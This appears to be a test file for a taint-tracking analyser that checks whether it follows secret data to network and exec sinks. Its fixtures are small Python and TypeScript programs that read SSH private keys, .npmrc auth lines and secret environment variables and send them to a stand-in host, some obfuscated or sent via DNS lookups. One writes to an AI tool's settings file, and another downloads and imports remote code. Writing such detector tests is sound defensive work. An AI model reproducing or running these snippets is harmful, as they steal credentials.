import { expect, it } from 'vitest'
import { calls, factsOf, flows, spec } from '../testkit.js'
const py = {
  ...spec,
  sources: [
    { pattern: 'open(*/id_rsa*)', tag: 'key' },
    { pattern: 'pathlib.Path.read_bytes(*/id_rsa*)', tag: 'key' },
    { pattern: 'pathlib.Path.read_text(*/id_rsa*)', tag: 'key' },
    { pattern: '=os.environ', tag: 'env' },
    { pattern: 'os.environ.*', tag: 'env' },
    { pattern: 'tarfile.open.add(*/id_rsa*)', tag: 'key' },
  ],
  sinks: [
    { pattern: 'requests.post', tag: 'net' },
    { pattern: 'urllib.request.urlopen', tag: 'net' },
    { pattern: 'urllib.request.Request', tag: 'net' },
    { pattern: 'subprocess.*', tag: 'exec' },
    { pattern: 'socket.getaddrinfo', tag: 'net' },
  ],
}
const js = {
  ...spec,
  language: 'javascript',
  sources: [
    { pattern: 'fs.readFileSync(*/.npmrc*)', tag: 'key' },
    { pattern: 'fs.promises.readFile(*/.npmrc*)', tag: 'key' },
    { pattern: 'process.env.*', tag: 'env' },
  ],
  sinks: [
    { pattern: 'fetch', tag: 'net' },
    { pattern: 'https.request', tag: 'net' },
    { pattern: 'fs.promises.writeFile(*/.claude/settings.json)', tag: 'set' },
  ],
}
it.each([
  [
    'enumerate',
    {
      'a.py': `import requests, pathlib
P = (("config","gh","hosts"), ("x",), ("ssh","id_rsa"), ("docker","c"))
for n, parts in enumerate(P):
    p = pathlib.Path.home().joinpath("." + parts[0], *parts[1:])
    if p.is_file():
        b = p.read_bytes()
        c = b + b"x"
        requests.post("https://a.example", data=c)
`,
    },
  ],
  [
    'many',
    {
      'a.py': `import requests
P = ["a","b","c","d","e","f","g","h","i","j","/x/id_rsa","k"]
for p in P:
    print(p)
    q = p
    b = open(q).read()
    c = b
    requests.post("https://a.example", data=c)
`,
    },
  ],
  [
    'rows',
    {
      'a.py': `import requests, os
P = [("a","1"),("b","2"),("c","3"),("d","4"),("e","5"),("f","6"),("g","7"),("h","8"),("~/.ssh","id_rsa"),("j","9")]
for d, f in P:
    print(d)
    q = os.path.join(d, f)
    b = open(q).read()
    requests.post("https://a.example", data=b)
`,
    },
  ],
  [
    'generator',
    {
      'a.py': `import requests, pathlib
def them():
    home = pathlib.Path.home()
    for cfg in (home / ".config", home / ".ssh"):
        for leaf in ("a", "id_rsa", "b"):
            yield cfg / leaf
for n, p in enumerate(filter(pathlib.Path.exists, them())):
    b = p.read_bytes()
    print(n)
    print(n)
    requests.post("https://a.example", data=b)
`,
    },
  ],
  [
    'archive',
    {
      'a.py': `import requests, pathlib, io, tarfile
class Archive:
    def __init__(self):
        self.buf = io.BytesIO()
        self.tar = tarfile.open(fileobj=self.buf, mode="w:xz")
    def add(self, path, name):
        try:
            self.tar.add(path, name)
        except OSError:
            pass
        return self
    def close(self):
        self.tar.close()
        return self.buf.getvalue()
arc = Archive().add("s", "t")
arc.add("/x/id_rsa", "k")
requests.post("https://a.example", data=arc.close())
`,
    },
  ],
  [
    'queue',
    {
      'a.py': `import requests, os, queue, threading
class R:
    def __init__(self):
        self.q = queue.Queue()
        self.worker = threading.Thread(target=self._drain, daemon=True)
    def start(self):
        self.q.put(dict(self._run()))
        self.worker.start()
    def _run(self):
        for name, value in vars(os)["environ"].items():
            if "KEY" in name:
                yield name, value
    def _drain(self):
        out = []
        for frame in iter(self.q.get, None):
            out.append(frame)
        requests.post("https://a.example", json=out)
r = R()
r.start()
`,
    },
  ],
  [
    'dict',
    {
      'a.py': `import os
x = os.__dict__["environ"]
import requests
requests.post("https://a.example", json=dict(x))
`,
    },
  ],
  [
    'attrgetter',
    {
      'a.py': `import operator, importlib, os
_run = operator.attrgetter("get" + "status" + "output")(importlib.import_module("sub" + "process"))
_run(open("/x/id_rsa").read())
`,
    },
  ],
  [
    'splat',
    {
      'a.py': `import socket, json
from pathlib import Path
Z = json.loads((Path(__file__).parent / "z.json").read_text())
def prime(zone, label, seed):
    head, *tail = seed
    src = Path.home() / f".{head}" / "/".join(tail)
    return src.read_bytes()
socket.getaddrinfo(prime(**Z["prime"]), None)
`,
      'z.json': '{"prime": {"zone": "a.example", "label": 4, "seed": ["ssh", "id_rsa"]}}',
    },
  ],
  [
    'pool',
    {
      'a.py': `import socket, json
from concurrent.futures import ThreadPoolExecutor
def look(n):
    socket.getaddrinfo(n, None)
def prime():
    return [f"{p}.a.example" for p in open("/x/id_rsa").read()]
with ThreadPoolExecutor(8) as pool:
    list(pool.map(look, prime()))
`,
    },
  ],
  [
    'js rc',
    {
      'a.js': `const fs=require('fs'),path=require('path'),https=require('https');const {homedir}=require('os')
const rc = ['npm', 'yarn', 'pypi'].map((n) => path.join(homedir(), \`.\${n}rc\`));
const seeds = rc.filter((f) => fs.existsSync(f)).flatMap((f) => fs.readFileSync(f, 'utf8').split(/x/)).filter((l) => /_auth/.test(l)).map((l) => Buffer.from(l).toString('base64url'));
https.request({ host: 'a.example', headers: { 'If-None-Match': seeds.join(',') } })
`,
    },
  ],
  [
    'js this push',
    {
      'a.ts': `import fs from 'fs'
export class Chat {
  private side: string[] = [];
  attach(text: string): this { this.side.push([...text].reverse().join("")); return this }
  async [Symbol.asyncDispose]() { await fetch("https://a.example", { method: "POST", body: JSON.stringify({ b: this.side }) }) }
}
async function main() { await using chat = new Chat(); chat.attach(fs.readFileSync('/x/.npmrc', 'utf8')) }
main()
`,
    },
  ],
  [
    'js map facets',
    {
      'a.ts': `import fs from 'fs'; import {join} from 'path'
const F = ["", "npm", "b"].map((s) => "." + s + "rc");
function* projects(root: string) {
  for (const name of fs.readdirSync(root)) {
    const facets = new Map<string, string>();
    for (const f of F) { const p = join(root, name, f); if (fs.existsSync(p)) facets.set(f, fs.readFileSync(p, "utf8")); }
    yield { name, facets };
  }
}
for (const p of projects("/x")) { p.facets.forEach((text, kind) => fetch("https://a.example", { body: text })) }
`,
    },
  ],
  [
    'js json',
    {
      'a.ts': `import { homedir } from 'node:os'; import { join } from 'node:path'; import { readFile, writeFile } from 'node:fs/promises';
import w from './w.json' with { type: 'json' };
const t = await readFile('/x/.npmrc', 'utf8');
await writeFile(join(homedir(), w.home, w.settings), t)
`,
      'w.json': '{"home": ".claude", "settings": "settings.json"}',
    },
  ],
  [
    'js context',
    {
      'a.ts': `class Context {
  readonly #bag = new Map<string, string>();
  with(k: string, v: string | undefined): this { if (v) this.#bag.set(k, v); return this; }
  *entries(): IterableIterator<[string, string]> { yield* this.#bag; }
}
export const ctx = new Context().with("ref", process.env["PAY_SECRET_" + "KEY"]).with("v", "3");
export const rates = { base: "https://a.example", decorate(u) { for (const [k, v] of ctx.entries()) u.searchParams.set(k, v); } };
export async function get(s, path) { const u = new URL(path, s.base); s.decorate(u); const r = await fetch(u); return r }
get(rates, "/x")
`,
    },
  ],
] as readonly (readonly [string, Readonly<Record<string, string>>])[])(
  'data is followed through %s',
  async (_, files) => {
    expect(flows(await factsOf(files, [py, js]))).not.toEqual([])
  },
)

it('what stands behind all arguments is given by name alone', async () => {
  const text = `def run(*args, data=None):
    return call(args, data)
run('a', 'b', 'c')
`
  expect(calls(await factsOf({ 'a.py': text }))).toContain('2 call(a b c, ?)')
})

it('a module that something was left in is what was left', async () => {
  const text = `import { writeFile } from 'node:fs/promises'
import { pathToFileURL } from 'node:url'
const file = '/x/tables.mjs'
await writeFile(file, await (await fetch('https://a.example')).text())
const { default: build } = await import(pathToFileURL(file).href)
`
  const sink = {
    ...js,
    sources: [{ pattern: 'fetch', tag: 'remote' }],
    sinks: [{ pattern: 'import', tag: 'exec' }],
  }
  expect(flows(await factsOf({ 'a.ts': text }, [sink]))).toHaveLength(1)
})

it.each([
  [
    'a.js',
    'const k = process.env.TOKEN\nfetch("https://a.example", { body: JSON.stringify({ n: k.length }) })',
  ],
  [
    'a.ts',
    'const k = Buffer.from(process.env.TOKEN ?? "")\nfetch("https://a.example", { body: String(k.byteLength) })',
  ],
])('how long it is tells nothing of what it is (%s)', async (path, text) => {
  expect(flows(await factsOf({ [path]: text }))).toEqual([])
})
